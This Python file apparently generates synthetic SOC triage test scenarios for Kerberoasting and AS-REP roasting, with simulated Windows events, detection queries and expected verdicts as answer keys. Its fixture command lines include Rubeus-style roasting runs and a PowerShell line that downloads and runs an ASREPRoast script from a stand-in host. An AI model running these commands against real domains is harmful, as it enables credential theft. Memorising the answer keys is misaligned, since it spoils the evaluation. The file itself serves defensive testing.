"""Kerberoasting and AS-REP roasting."""
from __future__ import annotations

from datetime import timedelta

from alerts import ancestors_for, ecs_host, ecs_winlog, elastic_alert, ocsf_device, ocsf_endpoint, ocsf_finding, ocsf_user, related_event
from common import DOMAIN, NETBIOS
from enterprise import C, U, hkey, ukey
from scen import MDI, TENZIR, at, desktop_session, fmt, machine_online, net_logon, rec, scenario
from winevt import Events

ES_SEC_INDEX = ".ds-logs-system.security-default-2025.03.10-000014"
SPN_ACCOUNTS = ["svc-sqlclaims", "svc-sqlpolicy", "svc-sqldw", "svc-iis-portal", "svc-sharepoint", "svc-guidewire", "svc-reporting", "svc-scom"]


def roast(ev, dc, t, user, ip, accounts, enc="0x17", spacing_ms=380, options="0x40810000"):
    out = []
    for i, a in enumerate(accounts):
        out.append(ev.tgs(dc, t + timedelta(milliseconds=i * spacing_ms), user, a, ip, enc=enc, options=options))
        ev.conn(t + timedelta(milliseconds=i * spacing_ms - 20), ip, C(dc).ip, 88, service="krb_tcp", ob=1790 + i, rb=1650 + i * 3)
    return out


def kerberoast_elastic(seed, evs, user, dc, src_ip, time, n):
    e = evs[0]
    src = {"host": ecs_host(dc, C(dc).ip, "Windows Server 2022 Datacenter"), "ecs": {"version": "8.11.0"},
           "event": {"code": "4769", "provider": "Microsoft-Windows-Security-Auditing", "action": "kerberos-service-ticket-requested",
                     "category": ["authentication"], "outcome": "success", "module": "system", "dataset": "system.security"},
           "user": {"name": user, "domain": DOMAIN}, "source": {"ip": src_ip},
           "winlog": ecs_winlog(e)}
    return elastic_alert(seed, time, "Potential Kerberoasting: multiple RC4 service tickets",
                         "Detects a single account requesting RC4-HMAC (0x17) service tickets for several distinct user-account SPNs in a short time, "
                         "as Rubeus/GetUserSPNs do to crack service account passwords offline.", "high", ["T1558.003"],
                         f"{n} RC4 (0x17) service tickets for distinct service accounts requested by {user} from {src_ip} within 10 seconds.",
                         src, rule_type="esql",
                         query='FROM logs-system.security-* | WHERE event.code == "4769" AND winlog.event_data.TicketEncryptionType == "0x17" AND NOT winlog.event_data.ServiceName LIKE "*$" | STATS n = COUNT_DISTINCT(winlog.event_data.ServiceName) BY user.name, source.ip, bucket = DATE_TRUNC(10 seconds, @timestamp) | WHERE n >= 4',
                         ancestors=ancestors_for(evs, ES_SEC_INDEX),
                         original_event={"code": "4769", "action": "kerberos-service-ticket-requested", "kind": "event", "module": "system"},
                         false_positives=["Vulnerability scanners with AD audit plugins", "Legacy applications that only support RC4"])


@scenario
def kerberoast_rc4_burst_from_claims_laptop():
    sid = "kerberoast-rc4-burst-from-claims-laptop"
    ev = Events(sid, "2025-03-11 14:00:00", "2025-03-11 16:30:00")
    ev.background(["BOS-LT-1066", "BOS-FS-01", "BOS-SQL-02"], dcs=["BOS-ADDS-01", "BOS-ADDS-02"], skip_users=("dmensah",))
    lap, dc = "BOS-LT-1066", "BOS-ADDS-02"
    ip = C(lap).ip
    mt = machine_online(ev, lap, at("2025-03-11 14:02:10"), dc=dc)
    lid, ex = desktop_session(ev, lap, "dmensah", at("2025-03-11 14:03:00"))
    for k, s in enumerate(["BOS-FS-01$", "BOS-EXC-01$", "svc-sharepoint"]):
        ev.tgs(dc, at("2025-03-11 14:03:20", seconds=k * 7), "dmensah", s, ip)
    word = ev.proc(lap, at("2025-03-11 15:02:41"), "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
                   '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\dmensah\\Downloads\\Claim_Form_88231.docm" /o ""',
                   ex, user="dmensah", logon_id=lid, integrity="Medium", session="1")
    tool = ev.proc(lap, at("2025-03-11 15:20:02"), "C:\\Users\\dmensah\\AppData\\Roaming\\Microsoft\\Teams\\tmsvc.exe",
                   '"C:\\Users\\dmensah\\AppData\\Roaming\\Microsoft\\Teams\\tmsvc.exe" kerberoast /nowrap /outfile:C:\\Users\\dmensah\\AppData\\Local\\Temp\\k.txt',
                   word, user="dmensah", logon_id=lid, integrity="Medium", session="1")
    ev.netconn(lap, at("2025-03-11 15:20:03"), tool, C(dc).ip, 389)
    ev.conn(at("2025-03-11 15:20:03"), ip, C(dc).ip, 389, service="ldap", ob=2311, rb=48112)
    reqs = roast(ev, dc, at("2025-03-11 15:20:04"), "dmensah", ip, SPN_ACCOUNTS)
    ev.file_create(lap, at("2025-03-11 15:20:09"), tool, "C:\\Users\\dmensah\\AppData\\Local\\Temp\\k.txt")
    ev.finalize()
    alert = kerberoast_elastic(sid, reqs, "dmensah", dc, ip, "2025-03-11 15:20:04", len(reqs))
    why = (f"Between 15:20:04 and 15:20:07 UTC {dc} issued {len(reqs)} service tickets with TicketEncryptionType 0x17 (RC4) to dmensah from {ip} "
           f"for every SPN user account ({rec(reqs[0])} ... {rec(reqs[-1])}), after an LDAP query; dmensah's normal tickets that day are AES 0x12 for "
           f"BOS-FS-01/Exchange/SharePoint. {ip} is {lap} (machine TGT {rec(mt)}), where tmsvc.exe in Teams' roaming folder, launched by a "
           f"macro document in WINWORD ({rec(word)}), ran 'kerberoast /outfile' ({rec(tool)}) and wrote k.txt: Kerberoasting by a phished claims user.")
    expect = {"verdict": "true_positive", "severity": "high",
              "entities": [ukey("dmensah"), hkey(lap), hkey(dc)] + [ukey(a) for a in SPN_ACCOUNTS],
              "source": [hkey(lap), ukey("dmensah")],
              "attack_path": [hkey(lap), ukey("dmensah"), ukey("svc-sqlclaims")],
              "impacted_assets": [hkey("BOS-SQL-02"), "CLAIMS-DB", hkey("BOS-SQL-01"), "POLICYHOLDER-DB", hkey("BOS-SQL-11"), "DW-ANALYTICS"],
              "techniques": ["T1558.003"], "must_not_cite": [hkey("BOS-LT-1067"), ukey("svc-nessus"), hkey("BOS-VSCAN-01")], "why": why}
    return sid, "RC4 ticket burst for every SPN account from a claims laptop", ev, alert, expect, "tsv"


@scenario
def kerberoast_scanner_account_from_workstation():
    sid = "kerberoast-scanner-account-from-workstation"
    ev = Events(sid, "2025-03-16 02:00:00", "2025-03-16 04:00:00")
    ev.background(["BOS-LT-1063", "BOS-VSCAN-01", "BOS-SQL-02"], dcs=["BOS-ADDS-01", "BOS-ADDS-02"], density=0.4, skip_users=("tnguyen",))
    scan, lap, dc = "BOS-VSCAN-01", "BOS-LT-1063", "BOS-ADDS-01"
    # the documented weekly AD audit from the scanner
    ev.tgt(dc, at("2025-03-16 02:18:40"), "svc-nessus", C(scan).ip)
    routine = roast(ev, dc, at("2025-03-16 02:18:41"), "svc-nessus", C(scan).ip, SPN_ACCOUNTS, spacing_ms=1200)
    # the same account, from a claims laptop, an hour later
    mt = machine_online(ev, lap, at("2025-03-16 02:51:03"), dc=dc)
    sched = ev.svchost(lap)
    ps = ev.proc(lap, at("2025-03-16 03:09:12"), "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "powershell.exe -NoP -W Hidden -Enc JABzAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAEQAaQByAGUAYwB0AG8AcgB5AFMAZQByAHYAaQBjAGUAcwAuAEEAYwBjAG8AdQBuAHQAT",
                 sched, user="SYSTEM", integrity="System")
    ev.netconn(lap, at("2025-03-16 03:10:01"), ps, C(dc).ip, 88)
    t1 = ev.tgt(dc, at("2025-03-16 03:10:01"), "svc-nessus", C(lap).ip)
    ev.conn(at("2025-03-16 03:10:01"), C(lap).ip, C(dc).ip, 88, service="krb_tcp", ob=1602, rb=1688)
    reqs = roast(ev, dc, at("2025-03-16 03:10:02"), "svc-nessus", C(lap).ip, SPN_ACCOUNTS, spacing_ms=210)
    ev.finalize()
    alert = kerberoast_elastic(sid, reqs, "svc-nessus", dc, C(lap).ip, "2025-03-16 03:10:02", len(reqs))
    why = (f"svc-nessus's documented AD audit runs Sundays 02:00-05:00 UTC from BOS-VSCAN-01 only, and it did at 02:18 from {C(scan).ip} "
           f"({rec(routine[0])}...). The alerted burst at 03:10 ({rec(reqs[0])} ... {rec(reqs[-1])}) uses the same account and ticket pattern but comes "
           f"from {C(lap).ip} = {lap} (machine TGT {rec(mt)}), Thi Nguyen's claims laptop, where an encoded hidden PowerShell started by a scheduled task "
           f"({rec(ps)}) obtained a TGT for svc-nessus ({rec(t1)}). Same who/what/when, wrong where: the scanner credential is being used to Kerberoast from a workstation.")
    expect = {"verdict": "true_positive", "severity": "high",
              "entities": [ukey("svc-nessus"), hkey(lap), hkey(dc)] + [ukey(a) for a in SPN_ACCOUNTS],
              "source": [hkey(lap), ukey("svc-nessus")],
              "attack_path": [hkey(lap), ukey("svc-nessus"), ukey("svc-sqlclaims")],
              "impacted_assets": [hkey("BOS-SQL-02"), "CLAIMS-DB", hkey("BOS-SQL-01"), "POLICYHOLDER-DB", hkey("BOS-SQL-11"), "DW-ANALYTICS"],
              "techniques": ["T1558.003"], "must_not_cite": [hkey("BOS-VSCAN-02"), ukey("svc-nessus-lab"), hkey("BOS-LT-1068")], "why": why}
    return sid, "Scanner account Kerberoasting from a claims laptop during the scan window", ev, alert, expect, "json"


@scenario
def kerberoast_nessus_ad_audit_window():
    sid = "kerberoast-nessus-ad-audit-window"
    ev = Events(sid, "2025-03-16 02:00:00", "2025-03-16 03:30:00")
    ev.background(["BOS-VSCAN-01", "BOS-SQL-01"], dcs=["BOS-ADDS-01", "BOS-ADDS-02"], density=0.4)
    scan, dc = "BOS-VSCAN-01", "BOS-ADDS-01"
    ip = C(scan).ip
    # the previous Sunday's run, same minute
    ev.tgt(dc, at("2025-03-09 02:19:55"), "svc-nessus", ip)
    prev = roast(ev, dc, at("2025-03-09 02:19:57"), "svc-nessus", ip, SPN_ACCOUNTS, spacing_ms=1150)
    t1 = ev.tgt(dc, at("2025-03-16 02:20:31"), "svc-nessus", ip)
    reqs = roast(ev, dc, at("2025-03-16 02:20:33"), "svc-nessus", ip, SPN_ACCOUNTS, spacing_ms=1180)
    nes = ev.sysproc(scan, "C:\\Program Files\\Tenable\\Nessus\\nessusd.exe", 2204, user="SYSTEM")
    ev.netconn(scan, at("2025-03-16 02:20:31"), nes, C(dc).ip, 88)
    for k in range(12):
        tgt = ["BOS-APP-0%d" % (k % 8 + 1), "BOS-SQL-01", "BOS-FS-01", "BOS-FS-02"][k % 4]
        li = ev.logon(tgt, at("2025-03-16 02:31:00", seconds=k * 37), "svc-nessus", 3, src_ip=ip)
        ev.share(tgt, at("2025-03-16 02:31:01", seconds=k * 37), "svc-nessus", li["logon_id"], ip, "ADMIN$", "\\??\\C:\\Windows")
        ev.conn(at("2025-03-16 02:31:00", seconds=k * 37), ip, C(tgt).ip, 445, service="smb,gssapi", ob=34000, rb=120000)
        ev.logoff(tgt, at("2025-03-16 02:31:40", seconds=k * 37), "svc-nessus", li["logon_id"])
    ev.finalize()
    alert = kerberoast_elastic(sid, reqs, "svc-nessus", dc, ip, "2025-03-16 02:20:33", len(reqs))
    why = (f"The RC4 tickets for all {len(reqs)} SPN accounts ({rec(reqs[0])} ... {rec(reqs[-1])}) were requested by svc-nessus from {ip} = BOS-VSCAN-01 "
           f"at 02:20 on Sunday 16 March, inside the window its description and the scanner's inventory tags document (Sun 02:00-05:00 UTC, "
           f"'AD audit plugins that request one service ticket per SPN account', source BOS-VSCAN-01 only). The identical run happened the previous "
           f"Sunday at 02:19 ({rec(prev[0])}), followed here by the usual credentialed SMB checks: the scheduled Nessus audit.")
    expect = {"verdict": "benign_positive", "severity": "low",
              "entities": [ukey("svc-nessus"), hkey(scan), hkey(dc)] + [ukey(a) for a in SPN_ACCOUNTS],
              "source": [hkey(scan), ukey("svc-nessus")], "impacted_assets": [], "techniques": ["T1558.003"],
              "must_not_cite": [hkey("BOS-VSCAN-02"), ukey("svc-nessus-lab")], "why": why}
    return sid, "Weekly Nessus AD audit requesting RC4 tickets", ev, alert, expect, "tsv"


@scenario
def kerberoast_misfire_aes_machine_tickets():
    sid = "kerberoast-misfire-aes-machine-tickets"
    ev = Events(sid, "2025-03-10 12:00:00", "2025-03-10 14:00:00")
    ev.background(["BOS-LT-1099", "BOS-FS-01", "BOS-EXC-01"], dcs=["BOS-ADDS-01", "BOS-ADDS-02"], skip_users=("asingh",))
    lap, dc = "BOS-LT-1099", "BOS-ADDS-01"
    ip = C(lap).ip
    mt = machine_online(ev, lap, at("2025-03-10 12:58:30"), dc=dc)
    lid, ex = desktop_session(ev, lap, "asingh", at("2025-03-10 12:59:10"))
    morning = ["BOS-FS-01$", "BOS-EXC-01$", "BOS-PRN-01$", "BOS-APP-02$", "BOS-APP-01$", "BOS-WSUS-01$", "BOS-ADDS-01$"]
    reqs = []
    for k, s in enumerate(morning):
        reqs.append(ev.tgs(dc, at("2025-03-10 12:59:14", milliseconds=k * 650), "asingh", s, ip, enc="0x12"))
        ev.conn(at("2025-03-10 12:59:14", milliseconds=k * 650), ip, C(dc).ip, 88, service="krb_tcp", ob=1900, rb=1720)
    ev.finalize()
    e = reqs[0]
    alert = ocsf_finding("tz-kerb-rc4-0310-1259", "2025-03-10 12:59:30", "Kerberoasting: RC4 service tickets for multiple SPN accounts",
                         f"asingh requested RC4-HMAC (0x17) service tickets for {len(reqs)} service accounts from {ip} within 5 seconds.",
                         "high", TENZIR, ("sigma-lmi-0107", "Kerberoasting RC4 burst", "Credential Access"), ["T1558.003"],
                         evidences=[{"actor": {"user": ocsf_user("asingh", domain=DOMAIN)}, "src_endpoint": ocsf_endpoint(ip),
                                     "dst_endpoint": ocsf_endpoint(C(dc).ip, dc.lower() + ".lmi.intra", 88)}],
                         device=ocsf_device(f"{dc}.lmi.intra", C(dc).ip), related=[related_event(x) for x in reqs],
                         unmapped={"TicketEncryptionType": "0x17", "distinct_services": len(reqs)})
    why = (f"The {len(reqs)} 4769 events the alert groups ({rec(reqs[0])} ... {rec(reqs[-1])}) all have TicketEncryptionType 0x12 (AES256), not 0x17, "
           f"and every ServiceName is a computer account (BOS-FS-01$, BOS-EXC-01$, BOS-PRN-01$, ...), not an SPN user account. They follow "
           f"asingh's console sign-in on {lap} at 12:59 (machine TGT {rec(mt)}): the normal Monday logon burst (mapped drives, Outlook, printer). "
           "No RC4 ticket and no service-account ticket was issued.")
    expect = {"verdict": "false_positive", "severity": "informational",
              "entities": [ukey("asingh"), hkey(lap), hkey(dc)], "source": [hkey(lap), ukey("asingh")], "impacted_assets": [],
              "techniques": [], "must_not_cite": [ukey("svc-sqlclaims"), ukey("svc-sharepoint"), hkey("BOS-LT-1098")], "why": why}
    return sid, "AES computer tickets at logon reported as RC4 Kerberoasting", ev, alert, expect, "tsv"


# ------------------------------------------------------------------------------------------------ AS-REP
def asrep_elastic(seed, evs, dc, ip, time, accounts):
    e = evs[0]
    src = {"host": ecs_host(dc, C(dc).ip, "Windows Server 2022 Datacenter"), "ecs": {"version": "8.11.0"},
           "event": {"code": "4768", "provider": "Microsoft-Windows-Security-Auditing", "action": "kerberos-authentication-ticket-requested",
                     "category": ["authentication"], "outcome": "success", "module": "system", "dataset": "system.security"},
           "user": {"name": e["TargetUserName"], "domain": DOMAIN}, "source": {"ip": ip}, "winlog": ecs_winlog(e)}
    return elastic_alert(seed, time, "AS-REP Roasting: TGT requested without pre-authentication",
                         "A Kerberos TGT was issued without pre-authentication (PreAuthType 0) with RC4 encryption. Attackers request AS-REPs for "
                         "accounts with DONT_REQ_PREAUTH and crack them offline.", "high", ["T1558.004"],
                         f"TGT without pre-authentication issued for {', '.join(accounts)} to {ip}.", src, rule_type="query",
                         query='event.code:"4768" and winlog.event_data.PreAuthType:"0" and winlog.event_data.Status:"0x0"',
                         ancestors=ancestors_for(evs, ES_SEC_INDEX),
                         original_event={"code": "4768", "action": "kerberos-authentication-ticket-requested", "kind": "event", "module": "system"})


@scenario
def asrep_roast_two_accounts_from_underwriting_laptop():
    sid = "asrep-roast-two-accounts-from-underwriting-laptop"
    ev = Events(sid, "2025-03-13 15:30:00", "2025-03-13 17:30:00")
    ev.background(["BOS-LT-1104", "BOS-APP-05"], dcs=["BOS-ADDS-01", "BOS-ADDS-02"], skip_users=("vortiz",))
    lap, dc = "BOS-LT-1104", "BOS-ADDS-02"
    ip = C(lap).ip
    edi = ev.tgt(dc, at("2025-03-13 15:40:12"), "svc-legacyedi", C("BOS-APP-05").ip, enc="0x17", preauth="0")
    mt = machine_online(ev, lap, at("2025-03-13 15:44:00"), dc=dc)
    lid, ex = desktop_session(ev, lap, "vortiz", at("2025-03-13 15:44:40"))
    ps = ev.proc(lap, at("2025-03-13 16:38:51"), "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "powershell.exe -ep bypass -c \"IEX (iwr http://192.0.2.91/ASREPRoast.ps1 -UseBasicParsing); Invoke-ASREPRoast | Out-File $env:TEMP\\ar.txt\"",
                 ex, user="vortiz", logon_id=lid, integrity="Medium", session="1")
    ev.netconn(lap, at("2025-03-13 16:38:52"), ps, "192.0.2.91", 80)
    ev.conn(at("2025-03-13 16:38:52"), ip, "192.0.2.91", 80, service="http", ob=412, rb=18211)
    ev.netconn(lap, at("2025-03-13 16:39:30"), ps, C(dc).ip, 389)
    ev.conn(at("2025-03-13 16:39:30"), ip, C(dc).ip, 389, service="ldap", ob=1900, rb=6100)
    r1 = ev.tgt(dc, at("2025-03-13 16:39:31"), "svc-legacyedi", ip, enc="0x17", preauth="0")
    r2 = ev.tgt(dc, at("2025-03-13 16:39:31.600"), "jkowalski", ip, enc="0x17", preauth="0")
    for t in ("2025-03-13 16:39:31", "2025-03-13 16:39:31.600"):
        ev.conn(at(t), ip, C(dc).ip, 88, service="krb_tcp", ob=240, rb=1490)
    ev.file_create(lap, at("2025-03-13 16:39:32"), ps, "C:\\Users\\vortiz\\AppData\\Local\\Temp\\ar.txt")
    ev.finalize()
    alert = asrep_elastic(sid, [r1, r2], dc, ip, "2025-03-13 16:39:31", ["svc-legacyedi", "jkowalski"])
    why = (f"At 16:39:31 {dc} issued RC4 TGTs without pre-authentication for svc-legacyedi and jkowalski ({rec(r1)}, {rec(r2)}) to {ip} = {lap} "
           f"(machine TGT {rec(mt)}), right after an LDAP query from a PowerShell that downloaded ASREPRoast.ps1 from 192.0.2.91 ({rec(ps)}) in vortiz's session. "
           f"svc-legacyedi's no-preauth exception covers only BOS-APP-05 (its normal renewal {rec(edi)} from 10.40.16.55), and jkowalski's DONT_REQ_PREAUTH "
           "has no documented exception at all: AS-REP roasting of both accounts.")
    expect = {"verdict": "true_positive", "severity": "high",
              "entities": [ukey("svc-legacyedi"), ukey("jkowalski"), hkey(lap), ukey("vortiz"), hkey(dc), "192.0.2.91"],
              "source": [hkey(lap), ukey("vortiz")], "attack_path": [hkey(lap), ukey("vortiz"), ukey("svc-legacyedi")],
              "impacted_assets": [hkey("BOS-APP-05")], "techniques": ["T1558.004"],
              "must_not_cite": [hkey("BOS-LT-1103"), hkey("PVD-DT-2017")], "why": why}
    return sid, "AS-REP roasting of the EDI account and a misconfigured user", ev, alert, expect, "json"


@scenario
def asrep_edi_account_from_pvd_desktop():
    sid = "asrep-edi-account-from-pvd-desktop"
    ev = Events(sid, "2025-03-14 05:00:00", "2025-03-14 10:30:00")
    ev.background(["PVD-DT-2021", "BOS-APP-05"], dcs=["BOS-ADDS-01", "BOS-ADDS-02"], density=0.5, skip_users=("nlarsen",))
    host, dc = "PVD-DT-2021", "BOS-ADDS-01"
    ip = C(host).ip
    edi = ev.tgt(dc, at("2025-03-14 05:40:09"), "svc-legacyedi", C("BOS-APP-05").ip, enc="0x17", preauth="0")
    ev.conn(at("2025-03-14 05:40:09"), C("BOS-APP-05").ip, C(dc).ip, 88, service="krb_udp", proto="udp", ob=230, rb=1410)
    mt = machine_online(ev, host, at("2025-03-14 08:55:02"), dc=dc)
    lid, ex = desktop_session(ev, host, "nlarsen", at("2025-03-14 08:56:30"))
    tool = ev.proc(host, at("2025-03-14 09:12:40"), "C:\\Users\\Public\\Libraries\\rb.exe",
                   "C:\\Users\\Public\\Libraries\\rb.exe asreproast /user:svc-legacyedi /format:hashcat /nowrap", ex, user="nlarsen", logon_id=lid,
                   integrity="Medium", session="1")
    ev.netconn(host, at("2025-03-14 09:12:41"), tool, C(dc).ip, 88)
    r = ev.tgt(dc, at("2025-03-14 09:12:41"), "svc-legacyedi", ip, enc="0x17", preauth="0")
    ev.conn(at("2025-03-14 09:12:41"), ip, C(dc).ip, 88, service="krb_tcp", ob=236, rb=1488)
    ev.finalize()
    alert = asrep_elastic(sid, [r], dc, ip, "2025-03-14 09:12:41", ["svc-legacyedi"])
    why = (f"svc-legacyedi may request TGTs without pre-authentication only from the EDI gateway BOS-APP-05 (SEC-EXC-114), as it did at 05:40 "
           f"({rec(edi)} from 10.40.16.55). The alerted no-preauth RC4 TGT ({rec(r)}) went to {ip} = {host} (machine TGT {rec(mt)}), Nora Larsen's "
           f"Providence desktop, 1 s after rb.exe in C:\\Users\\Public\\Libraries ran 'asreproast /user:svc-legacyedi /format:hashcat' ({rec(tool)}). "
           "Same account and same weak configuration, wrong client: an AS-REP roast.")
    expect = {"verdict": "true_positive", "severity": "high",
              "entities": [ukey("svc-legacyedi"), hkey(host), ukey("nlarsen"), hkey(dc)],
              "source": [hkey(host), ukey("nlarsen")], "attack_path": [hkey(host), ukey("nlarsen"), ukey("svc-legacyedi")],
              "impacted_assets": [hkey("BOS-APP-05")], "techniques": ["T1558.004"],
              "must_not_cite": [hkey("BOS-APP-06"), hkey("PVD-DT-2022"), hkey("PVD-DT-2012")], "why": why}
    return sid, "No-preauth TGT for the EDI account requested from a Providence desktop", ev, alert, expect, "tsv"


@scenario
def asrep_edi_gateway_renewal():
    sid = "asrep-edi-gateway-renewal"
    ev = Events(sid, "2025-03-13 04:30:00", "2025-03-13 16:30:00")
    ev.background(["BOS-APP-05"], dcs=["BOS-ADDS-01", "BOS-ADDS-02"], density=0.15)
    dc, app = "BOS-ADDS-02", "BOS-APP-05"
    ip = C(app).ip
    java = ev.sysproc(app, "C:\\IBM\\Sterling\\jdk\\bin\\java.exe", 3488, user="svc-legacyedi")
    rs = []
    for t in ("2025-03-13 05:40:11", "2025-03-13 15:40:12"):
        rs.append(ev.tgt(dc, at(t), "svc-legacyedi", ip, enc="0x17", preauth="0"))
        ev.conn(at(t), ip, C(dc).ip, 88, proto="udp", service="krb", ob=231, rb=1402)
        ev.netconn(app, at(t), java, C(dc).ip, 88, proto="udp")
        for k in range(3):
            ev.tgs(dc, at(t, minutes=k * 3 + 1), "svc-legacyedi", "BOS-FS-01$", ip, enc="0x17")
    ev.finalize()
    alert = asrep_elastic(sid, [rs[1]], dc, ip, "2025-03-13 15:40:12", ["svc-legacyedi"])
    why = (f"The no-preauth RC4 TGT for svc-legacyedi ({rec(rs[1])}) went to {ip} = BOS-APP-05, the EDI gateway, from its Java process; the account's "
           f"description and inventory tags document exactly this (DONT_REQ_PREAUTH under SEC-EXC-114, only client BOS-APP-05, TGT renewed every "
           f"10 hours) and the previous renewal at 05:40 ({rec(rs[0])}) is identical. The detection is right, the configuration is weak but documented.")
    expect = {"verdict": "benign_positive", "severity": "low",
              "entities": [ukey("svc-legacyedi"), hkey(app), hkey(dc)], "source": [hkey(app), ukey("svc-legacyedi")],
              "impacted_assets": [], "techniques": ["T1558.004"], "must_not_cite": [ukey("jkowalski"), hkey("BOS-APP-06")], "why": why}
    return sid, "EDI gateway's documented no-preauth TGT renewal", ev, alert, expect, "tsv"


@scenario
def asrep_misfire_preauth_after_typo():
    sid = "asrep-misfire-preauth-after-typo"
    ev = Events(sid, "2025-03-12 12:00:00", "2025-03-12 14:00:00")
    ev.background(["PVD-DT-2022"], dcs=["BOS-ADDS-01", "BOS-ADDS-02"], skip_users=("acosta",))
    host, dc = "PVD-DT-2022", "BOS-ADDS-01"
    ip = C(host).ip
    mt = machine_online(ev, host, at("2025-03-12 12:58:01"), dc=dc)
    f1 = ev.preauth_fail(dc, at("2025-03-12 13:01:12"), "acosta", ip)
    ok = ev.tgt(dc, at("2025-03-12 13:01:19"), "acosta", ip, enc="0x12", preauth="2")
    li = ev.logon(host, at("2025-03-12 13:01:20"), "acosta", 2, elevated=False)
    ev.finalize()
    alert = ocsf_finding("mdi-asrep-0312-1301", "2025-03-12 13:01:30", "Suspected AS-REP Roasting attack",
                         f"A TGT without Kerberos pre-authentication was issued for acosta to {host} ({ip}).",
                         "high", MDI, ("2412", "Suspected AS-REP Roasting attack", "Credential Access"), ["T1558.004"],
                         evidences=[{"user": ocsf_user("acosta", domain=DOMAIN), "src_endpoint": ocsf_endpoint(ip, host)}],
                         device=ocsf_device(f"{dc}.lmi.intra", C(dc).ip), related=[related_event(f1), related_event(ok)],
                         unmapped={"PreAuthType": "0", "TicketEncryptionType": "0x17"})
    why = (f"acosta's AS exchange from {ip} = {host} (machine TGT {rec(mt)}) is a mistyped password ({rec(f1)}: 4771 status 0x18) followed 7 s later by a "
           f"normal TGT with PreAuthType 2 (encrypted timestamp) and AES 0x12 ({rec(ok)}), then her console logon. The account requires pre-authentication "
           "(dontreqpreauth false); no TGT without pre-authentication or RC4 ticket was issued, contrary to the alert.")
    expect = {"verdict": "false_positive", "severity": "informational",
              "entities": [ukey("acosta"), hkey(host), hkey(dc)], "source": [hkey(host), ukey("acosta")], "impacted_assets": [],
              "techniques": [], "must_not_cite": [ukey("jkowalski"), ukey("svc-legacyedi"), hkey("PVD-DT-2021")], "why": why}
    return sid, "Password typo and normal pre-authenticated TGT reported as AS-REP roasting", ev, alert, expect, "tsv"
